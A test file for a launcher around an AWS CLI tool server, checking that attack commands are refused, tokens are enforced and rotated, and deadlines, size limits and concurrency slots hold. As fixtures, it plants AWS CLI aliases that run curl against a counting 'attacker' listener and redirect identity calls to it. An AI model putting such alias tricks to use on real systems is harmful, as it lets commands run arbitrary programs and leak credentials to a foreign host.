// What the launcher adds to the server: rejections, tokens, deadlines, limits, slots and the call log.
import { once } from "node:events";
import { mkdir, mkdtemp, readdir, rename, stat, writeFile } from "node:fs/promises";
import { type AddressInfo, connect as connectSocket, createServer, type Server } from "node:net";
import path from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import ATTACKS from "../../image/launcher/tests/attacks.json" with { type: "json" };
import { freePort } from "../../scripts/common/processes.js";
import { callTool, type McpEndpoint, withMcp } from "../../scripts/emulation/mcpClient.js";
import { type Lab, type Running, startLab } from "./lab.js";
import { RawSession } from "./rawSession.js";

/** Size limit of the commands of one call, in bytes. */
const MAX_BATCH = 20;

let lab: Lab;
/** Host of the attacker. Counts its connections. */
let listener: Server;
let connections = 0;
let listenerHost: string;

beforeAll(async () => {
  lab = await startLab({ marks: 100 });
  listener = createServer((socket) => {
    connections += 1;
    socket.destroy();
  });
  await once(listener.listen(0, "127.0.0.1"), "listening");
  listenerHost = `127.0.0.1:${(listener.address() as AddressInfo).port}`;
});
afterAll(async () => {
  listener?.close();
  await lab?.close();
});

const run = (endpoint: McpEndpoint, command: string | readonly string[]) =>
  callTool(endpoint, "call_aws", { cli_command: command });
const callAws = (command: string) => ({ name: "call_aws", arguments: { cli_command: command } });
const attack = (command: string) => command.replaceAll("{profile}", "mark-0").replaceAll("{listener}", listenerHost);
const parameter = (name: string) => `aws ssm get-parameter --name ${name} --profile mark-0`;

/**
 * Lines of the call log since `began` (`Date.now()`), oldest first. Waits until there are `expected` lines: a line is
 * written before the response, but can arrive after it, through another pipe.
 */
async function callsSince(running: Running, began: number, expected: number): Promise<Record<string, unknown>[]> {
  const lines = () =>
    running
      .log()
      .split("\n")
      .filter((line) => line.startsWith('{"time"') && line.endsWith("}"))
      .map((line) => JSON.parse(line))
      .filter(({ time }) => Date.parse(time) > began);
  for (let wait = 0; wait < 100 && lines().length < expected; wait += 1) await sleep(50);
  return lines();
}
const count = (values: readonly unknown[]) => {
  const counts: Record<string, number> = {};
  for (const value of values) counts[String(value)] = (counts[String(value)] ?? 0) + 1;
  return counts;
};

async function bytesBelow(folder: string): Promise<number> {
  let bytes = 0;
  for (const entry of await readdir(folder, { recursive: true, withFileTypes: true }))
    if (entry.isFile()) bytes += (await stat(path.join(entry.parentPath, entry.name))).size;
  return bytes;
}

describe.each(["sse", "streamable-http"] as const)("%s", (transport) => {
  describe("with the defaults", () => {
    let running: Running;
    let home: string;
    let metricsPort: number;
    beforeAll(async () => {
      home = await mkdtemp(path.join(lab.folder, "guards-"));
      // Aliases of the AWS CLI run programs and add options.
      await mkdir(path.join(home, ".aws/cli"), { recursive: true });
      await writeFile(
        path.join(home, ".aws/cli/alias"),
        `[toplevel]\nprogram = !curl http://${listenerHost}\noption = sts get-caller-identity --endpoint-url http://${listenerHost}\n`,
      );
      metricsPort = await freePort();
      const environment = { HOME: home, AWS_API_MCP_HOST: "127.0.0.1" };
      running = await lab.start(transport, { config: { metricsPort }, environment });
    });
    afterAll(() => running?.stop());

    const attacks = [
      ...Object.entries(ATTACKS).flatMap(([outcome, commands]) => commands.map((command) => ({ outcome, command }))),
      ...["program", "option"].map((alias) => ({ outcome: "refused", command: `aws ${alias} --profile {profile}` })),
    ];

    test(`${attacks.length} attacks are rejected, alone and in lists, and reach no listener`, async () => {
      const seen = connections;
      const began = Date.now();
      const passed: string[] = [];
      for (const { command } of attacks) {
        const { isError } = await run(running.endpoint, attack(command));
        if (!isError) passed.push(command);
      }
      const outcomes = await callsSince(running, began, attacks.length);
      const found = attacks.map(({ command }, index) => ({ outcome: outcomes[index]?.outcome, command }));
      expect(found).toEqual(attacks);
      const good = lab.marked(1);
      for (let start = 0; start < attacks.length; start += MAX_BATCH - 1) {
        const commands = attacks.slice(start, start + MAX_BATCH - 1).map(({ command }) => attack(command));
        const { text, isError } = await run(running.endpoint, [good.command, ...commands]);
        const [first, ...others] = JSON.parse(text) as { response?: { Arn: string }; error?: string }[];
        // One command of the list succeeded.
        expect(isError).toBe(false);
        expect(`${first!.response!.Arn}"`).toBe(good.arn);
        expect(others).toHaveLength(commands.length);
        passed.push(...commands.filter((_, index) => others[index]!.error === undefined));
      }
      expect(passed).toEqual([]);
      expect(connections).toBe(seen);
      // Check that the listener counts.
      await once(connectSocket((listener.address() as AddressInfo).port, "127.0.0.1").resume(), "close");
      expect(connections).toBe(seen + 1);
    });

    test("a parameter that is a URL is not fetched", async () => {
      const seen = connections;
      await run(running.endpoint, parameter(`http://${listenerHost}/name`));
      await run(running.endpoint, `${lab.marked(0).command} --cli-input-json http://${listenerHost}/input`);
      await run(running.endpoint, `aws logs tail http://${listenerHost}/group --profile mark-0`);
      expect(connections).toBe(seen);
    });

    test("rejects commands of 64 kB and more, which fill no volume", async () => {
      const before = await bytesBelow(home);
      for (let call = 0; call < 17; call += 1) {
        const answer = await run(running.endpoint, `aws ec2 describe-vpcs --vpc-ids ${"x".repeat(90_000)}`);
        expect(answer).toEqual({ isError: true, text: expect.stringMatching(/has \d+ bytes.*at most 65536/) });
      }
      expect((await bytesBelow(home)) - before).toBeLessThan(100_000);
    });

    test("initialize, ping and tools/list respond within 200 ms (p95) while 50 slow calls run", async () => {
      const quick = async () => {
        const times: number[] = [];
        const timed = async (work: () => Promise<unknown>) => {
          const began = performance.now();
          await work();
          times.push(performance.now() - began);
        };
        for (let round = 0; round < 30; round += 1) {
          let session: RawSession;
          await timed(async () => {
            session = await RawSession.open(running.endpoint);
          });
          await timed(() => session.request("ping", {}));
          await timed(() => session.request("tools/list", {}));
          session!.close();
        }
        times.sort((a, b) => a - b);
        return times[Math.floor(times.length * 0.95)]!;
      };
      const idle = await quick();
      let done = 0;
      const slow = Array.from({ length: 50 }, async (_, mark) => {
        const command = `aws ssm get-parameter --name /hold/busy-${transport}-${mark} --profile mark-${mark}`;
        const { isError } = await run(running.endpoint, command);
        done += 1;
        return isError;
      });
      // Every slot has a call without a response from AWS. The others wait for a slot.
      while (lab.parameters.open.length < 16) await sleep(50);
      const busy = await quick();
      const health = await fetch(new URL("/healthz", running.endpoint.url), { signal: AbortSignal.timeout(5000) });
      expect(health.status).toBe(200);
      expect(done).toBe(0);
      while (done < slow.length) {
        for (const name of lab.parameters.open) lab.parameters.release(name);
        await sleep(50);
      }
      expect((await Promise.all(slow)).filter(Boolean)).toEqual([]);
      const figures = [idle, busy].map((time) => `${time.toFixed(0)} ms`);
      process.stderr.write(
        `${transport}: p95 of small requests: idle ${figures[0]}, beside 50 slow calls ${figures[1]}\n`,
      );
      // Does not blame the server for a slow machine.
      expect(busy).toBeLessThan(Math.max(200, 3 * idle));
    });

    test("the call log and the metrics match the counts of 50 clients", async () => {
      const metrics = async () => {
        const text = await (await fetch(`http://127.0.0.1:${metricsPort}/metrics`)).text();
        const counts: Record<string, number> = { ok: 0, refused: 0 };
        for (const [, outcome, value] of text.matchAll(/^aws_mcp_commands_total\{.*outcome="(\w+)"\} (\d+)$/gm))
          counts[outcome!] = (counts[outcome!] ?? 0) + Number(value);
        return counts;
      };
      const [began, counted] = [Date.now(), await metrics()];
      const outcomes: string[] = [];
      await Promise.all(
        Array.from({ length: 50 }, async (_, mark) => {
          await withMcp(running.endpoint, async (client) => {
            for (const command of [lab.marked(mark).command, "aws sts get-caller-identity"]) {
              const { isError } = await client.callTool({ name: "call_aws", arguments: { cli_command: command } });
              outcomes.push(isError ? "refused" : "ok");
            }
          });
        }),
      );
      const expected = { ok: 50, refused: 50 };
      expect(count(outcomes)).toEqual(expected);
      const lines = await callsSince(running, began, outcomes.length);
      expect(count(lines.map(({ outcome }) => outcome))).toEqual(expected);
      const after = await metrics();
      expect({ ok: after.ok! - counted.ok!, refused: after.refused! - counted.refused! }).toEqual(expected);
      for (const line of lines.filter(({ outcome }) => outcome === "ok")) {
        const keys = ["time", "session", "tool", "service", "operation", "profile", "account", "region"];
        expect(Object.keys(line)).toEqual([...keys, "milliseconds", "bytes", "outcome"]);
      }
    });
  });

  describe("with one slot and a deadline of 5 s", () => {
    let running: Running;
    beforeAll(async () => {
      running = await lab.start(transport, {
        config: { concurrency: 1, callTimeoutSeconds: 5, maxAnswerBytes: 10_000 },
      });
    });
    afterAll(() => running?.stop());

    /** Whether the slot is free: a valid call returns immediately. */
    const isFree = async () => {
      const { command, arn } = lab.marked(3);
      expect((await run(running.endpoint, command)).text).toContain(arn);
    };
    const byPath = (milliseconds: number) =>
      `aws ssm get-parameters-by-path --path /pages/${milliseconds} --profile mark-0`;

    test("a call with endless pages ends at its deadline", async () => {
      const began = performance.now();
      const answer = await run(running.endpoint, byPath(200));
      expect(answer).toEqual({ isError: true, text: expect.stringMatching(/did not finish in time.*--query/) });
      expect(performance.now() - began).toBeLessThan(8000);
      await isFree();
    });

    test("a call with endless fast pages ends at a limit", async () => {
      const answer = await run(running.endpoint, byPath(0));
      expect(answer).toEqual({ isError: true, text: expect.stringMatching(/exceeds|pages|in time/) });
      await isFree();
    });

    test("a call without a response from AWS ends at its deadline", async () => {
      const answer = await run(running.endpoint, parameter(`/hold/deadline-${transport}`));
      expect(answer).toEqual({ isError: true, text: expect.stringContaining("did not finish in time") });
      await isFree();
    });

    test("a response above maxAnswerBytes is an error", async () => {
      const answer = await run(running.endpoint, parameter(`/size/20000/${transport}`));
      expect(answer).toEqual({ isError: true, text: expect.stringMatching(/exceeds 10000 bytes.*--query/) });
      await isFree();
    });

    test.each([
      ["leaves", (session: RawSession) => session.close()],
      ["cancels", (session: RawSession) => void session.notify("notifications/cancelled", { requestId: 1 })],
    ])("a caller that %s frees its slot", async (how, leave) => {
      const name = `/hold/${how}-${transport}`;
      const session = await RawSession.open(running.endpoint);
      const began = Date.now();
      void session.request("tools/call", callAws(parameter(name)));
      await lab.parameters.asked(name);
      leave(session);
      await isFree();
      // The server has one slot: the call of isFree waited for the end of the abandoned call, to which AWS did not respond.
      const lines = await callsSince(running, began, 2);
      expect(lines.map(({ outcome }) => outcome)).toEqual(["cancelled", "ok"]);
      session.close();
    });

    test("a cancellation at the same time as the response does not end the server", async () => {
      const session = await RawSession.open(running.endpoint);
      for (let id = 1; id <= 20; id += 1) {
        const name = `/hold/cross-${id}-${transport}`;
        void session.request("tools/call", callAws(parameter(name)), id);
        await lab.parameters.asked(name);
        lab.parameters.release(name);
        await session.notify("notifications/cancelled", { requestId: id });
      }
      await isFree();
      expect(running.child.exitCode).toBeUndefined();
      session.close();
    });

    test("the call of a caller that disconnects in the queue does not run", async () => {
      const [held, queued] = [`/hold/first-${transport}`, `/size/1/queued-${transport}`];
      const [first, second] = await Promise.all([RawSession.open(running.endpoint), RawSession.open(running.endpoint)]);
      const began = Date.now();
      void first.request("tools/call", callAws(parameter(held)));
      await lab.parameters.asked(held);
      // The server has accepted the request when the response begins.
      await second.post(
        JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/call", params: callAws(parameter(queued)) }),
      );
      await second.notify("notifications/cancelled", { requestId: 1 });
      const lines = await callsSince(running, began, 1);
      expect(lines.map(({ outcome }) => outcome)).toEqual(["cancelled"]);
      lab.parameters.release(held);
      await isFree();
      first.close();
      second.close();
    });
  });

  describe("with bearer authentication", () => {
    const [first, second] = ["a".repeat(32), "b".repeat(48)];
    let running: Running;
    let file: string;
    const write = async (...tokens: string[]) => {
      // Replace the file instead of writing to it, as the kubelet does.
      await writeFile(`${file}.new`, `${tokens.join("\n")}\n`, { mode: 0o600 });
      await rename(`${file}.new`, file);
    };
    const attempt = (token?: string) => run({ ...running.endpoint, token }, lab.marked(5).command);
    beforeAll(async () => {
      file = path.join(await mkdtemp(path.join(lab.folder, "tokens-")), "tokens");
      await write(first);
      running = await lab.start(transport, { environment: { HOLMES_AWS_MCP_TOKENS_FILE: file } });
    });
    afterAll(() => running?.stop());

    test("returns 401 without a valid token, except for /healthz", async () => {
      const { origin } = new URL(running.endpoint.url);
      const sse = transport === "sse";
      const headers = [
        {},
        ...["", "x", first.slice(1), `${first}x`, second].map((token) => `Bearer ${token}`),
        `Basic ${first}`,
      ].map((value) => (typeof value === "string" ? { authorization: value } : value));
      for (const [url, method] of sse
        ? [
            [running.endpoint.url, "GET"],
            [`${origin}/message?sessionId=x`, "POST"],
          ]
        : [[running.endpoint.url, "POST"]]) {
        for (const header of headers) {
          const body = method === "POST" ? "{}" : null;
          const response = await fetch(url!, {
            method: method!,
            headers: { ...header, "content-type": "application/json" },
            body,
          });
          expect([response.status, response.headers.get("www-authenticate")]).toEqual([
            401,
            expect.stringMatching(/^Bearer\b/),
          ]);
          await response.body?.cancel();
        }
      }
      await expect(attempt()).rejects.toThrow(/401|bearer/i);
      expect((await fetch(`${origin}/healthz`)).status).toBe(200);
      expect((await attempt(first)).text).toContain(lab.marked(5).arn);
    });

    test("a rotation fails no call, and revokes the previous token", async () => {
      let token = first;
      let stop = false;
      let answered = 0;
      const failures: unknown[] = [];
      const clients = Array.from({ length: 4 }, async () => {
        while (!stop) {
          try {
            const { text } = await attempt(token);
            if (!text.includes(lab.marked(5).arn)) failures.push(text);
            answered += 1;
          } catch (error) {
            failures.push(error);
          }
        }
      });
      const answers = async (more: number) => {
        const goal = answered + more;
        while (answered < goal && failures.length === 0) await sleep(20);
      };
      await answers(8);
      await write(second, first);
      await answers(8);
      token = second;
      await answers(8);
      await write(second);
      await answers(8);
      stop = true;
      await Promise.all(clients);
      expect(failures).toEqual([]);
      await expect(attempt(first)).rejects.toThrow(/401|bearer/i);
    });
  });
});
